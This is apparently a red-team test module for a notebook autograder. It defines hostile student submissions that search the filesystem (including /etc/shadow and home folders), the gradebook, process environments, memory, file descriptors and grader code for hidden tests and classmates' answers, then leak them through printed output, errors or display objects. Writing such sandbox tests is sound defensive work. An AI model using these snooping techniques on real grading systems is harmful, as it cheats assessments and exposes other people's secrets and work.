"""Spies: they look for the gradebook, hidden tests, classmates, secrets and the environment, and print them."""

from __future__ import annotations

from red_team.submission import Hostile, add, both, write

# Words that are planted where no student may look; a submission prints whatever it finds of them. They are put together
# so that the submission's own text does not hold them.
WORDS = """
planted = ["ses" + "ame-", "hidden_" + "plan_", "SOLU" + "TION", "checksum"]

def tell(text):
    for word in planted:
        for part in str(text).split(word)[1:]:
            print("found", word + part[:80])
"""
WALK = (
    WORDS
    + """
import os
places = ["@COURSE@", "@HOME@", "/root", "/home", "/etc/shadow", "/etc/jupyter", "/tmp", os.getcwd(), "..", "../..",
          "/proc/1/root/tmp", "/proc/self/root/@COURSE@", "/proc/1/cwd", "/proc/self/cwd/../../.."]

def names(place):
    if os.path.isfile(place):
        yield place
    for folder, folders, files in os.walk(place):
        folders[:] = folders[:50]
        for file in files[:200]:
            yield os.path.join(folder, file)

for place in places:
    for number, name in enumerate(names(place)):
        if number > 3000:
            break
        try:
            if os.path.isfile(name) and os.path.getsize(name) < 2**22 and name != os.path.abspath("plain.ipynb"):
                with open(name, errors="replace") as file:
                    tell(file.read())
        except OSError:
            pass
"""
)
GRADEBOOK = (
    WORDS
    + """
import sqlite3
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    try:
        for line in sqlite3.connect(f"file:{path}?mode=ro", uri=True).iterdump():
            tell(line)
    except sqlite3.Error as error:
        print(type(error).__name__)
"""
)
ENVIRONMENT = (
    WORDS
    + """
import glob, os
tell(os.environ)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    try:
        with open(path, "rb") as file:
            tell(file.read())
    except OSError:
        pass
"""
)
MEMORY = (
    WORDS
    + """
import re

def scan():
    mine = set()
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", 0) as memory:
        for span, rights, *_ in regions:
            start, end = (int(part, 16) for part in span.split("-"))
            if "r" not in rights or end - start > 2**30 or start > 2**62:
                continue
            try:
                memory.seek(start)
                content = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for word in (planted[0] + "en", planted[1] + "7"):
                for found in re.finditer(re.escape(word.encode()) + rb"[a-z0-9_-]{3,40}", content):
                    mine.add(found[0].decode())
    for found in sorted(mine):
        print("found", found)

try:
    scan()
except OSError as error:
    print(type(error).__name__)

def centre(x):
    try:
        scan()
    except OSError:
        pass
    return x
"""
)
OBJECTS = (
    WORDS
    + """
import gc, sys

def look():
    for one in gc.get_objects():
        for part in [one] if type(one) is str else list(one) if type(one) in (list, tuple) else []:
            if type(part) is str and (planted[1] in part or planted[0] in part) and "def tell" not in part:
                tell(part)
        if type(one) is dict:
            for key, value in list(one.items()):
                if type(value) is str and planted[1] in value and "def tell" not in value:
                    tell(value)
    frame = sys._getframe()
    while frame is not None:
        tell(dict(frame.f_locals) if "planted" not in frame.f_locals else "")
        frame = frame.f_back

def is_leap(year):
    look()
    return None

look()
"""
)
DESCRIPTORS = (
    WORDS
    + """
import os
for number in range(3, 1024):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}")[:20])
        os.lseek(number, 0, 0)
        tell(os.read(number, 2**20))
    except OSError:
        pass
"""
)
WRITES_OUT = """
import os
mounts = open("/proc/self/mountinfo").read() if os.path.exists("/proc/self/mountinfo") else ""
print("COURSE" if "@COURSE@" in mounts else "nothing")
for folder in ("@COURSE@/source", "@COURSE@/submitted", "@COURSE@"):
    try:
        print("found sesame-listing", len(os.listdir(folder)) and os.listdir(folder))
    except OSError as error:
        print(type(error).__name__)
"""
ANSWER_FROM_SOURCE = """
import glob, json, os

def from_file():
    for path in ["@COURSE@/source/plain/plain.ipynb", *glob.glob("@COURSE@/submitted/*/plain/plain.ipynb"),
                 "@COURSE@/release/plain/plain.ipynb", "../../../source/plain/plain.ipynb"]:
        try:
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if cell["cell_type"] == "code" and ("SOL" + "UTION" in text or "x.mean(axis=0)" in text):
                    exec(text, globals())
        except (OSError, ValueError, KeyError):
            pass

from_file()
"""
# What a test hands over is known to the answer; a later cell shows it to whoever reads the feedback.
TELLS_LATER = """
import sys
seen = []

def double(number):
    if number > 1000:  # no cell of the notebook itself calls it with such a number
        seen.append(number)
        frame = sys._getframe(1)
        while frame is not None:
            seen.extend(value for name, value in frame.f_locals.items() if name == "seed" and type(value) is int)
            frame = frame.f_back
    return 2 * number
"""
TELLS = """
for number in seen:
    print(f"found sesame-case-{number}")
"""
TELLS_IN_ERROR = """
def centre(x):
    if len(x) < 50:
        return x - x.mean(axis=0)
    raise ValueError(f"found sesame-case-{x[0]:.3f}")
"""
TELLS_IN_FIGURES = """
import matplotlib.pyplot as plt
from IPython.display import display

def words_of():
    return [f"found sesame-case-{number}" for number in seen]

class Shown:
    def _repr_html_(self): return "".join(words_of())
    def _repr_mimebundle_(self, *a, **k):
        return {"text/plain": "\\n".join(words_of()), "text/html": "".join(words_of())}

display(Shown())
Shown()
"""
GRADER_FILES = """
import glob, os, sys, sysconfig
roots = [*sys.path, os.path.dirname(sys.executable), sysconfig.get_paths()["purelib"], "@CHECKOUT@", "@LIBRARY@"]
for root in roots:
    for path in glob.glob(os.path.join(root, "**/tiny/double.py"), recursive=True)[:5] + \\
            glob.glob(os.path.join(root, "graders/*/*.py"))[:3] + glob.glob(os.path.join(root, "exercises/*/*.py"))[:3]:
        try:
            text = open(path).read()
        except OSError:
            continue
        if text:
            print("found sesame-grader", path)
            space = {}
            try:
                exec(text.replace("from shoshin import Check", ""), space)
            except Exception:
                pass
words = "twice" if "sesame" in str(globals().get("text")) else ...
"""


def spy(name: str, tries: str, source: str, *, stock: str = "trace") -> Hostile:
    return Hostile(name, tries, "plain", both(write(draw=source), add(source)), stock=stock)


SUBMISSIONS = (
    spy("reads-files", "files of the course, the home and the host are searched and printed", WALK),
    spy("reads-the-gradebook", "the gradebook's hidden tests are printed", GRADEBOOK),
    spy("reads-environments", "its own and others' environment and command line are printed", ENVIRONMENT),
    spy("reads-its-memory", "/proc/self/mem is searched for what its parent had read", MEMORY),
    spy("reads-objects", "all objects and frames are searched for hidden tests", OBJECTS),
    spy("reads-descriptors", "inherited descriptors are read", DESCRIPTORS, stock="held"),
    spy("reads-folders", "the folders of the course are listed", WRITES_OUT),
    Hostile("runs-the-source", "the solution and classmates' answers are read and executed", "plain",
            write(first=ANSWER_FROM_SOURCE, **dict.fromkeys(("heaviest", "clip"), ANSWER_FROM_SOURCE))),
    Hostile("tells-later", "what the test handed over is printed by a later cell", "double",
            both(write(double=TELLS_LATER), add(TELLS), add(TELLS_IN_FIGURES),
                 add("1 / 0 if not seen else seen[0] / 0")),
            {"double": 2}, stock="trace"),
    Hostile("tells-in-an-error", "an error at the hidden case, whose text is the case", "plain",
            write(centre=TELLS_IN_ERROR), stock="trace"),
    Hostile("reads-the-graders", "exercises and graders are searched on disk", "double",
            write(double=GRADER_FILES), stock="trace"),
)  # fmt: skip
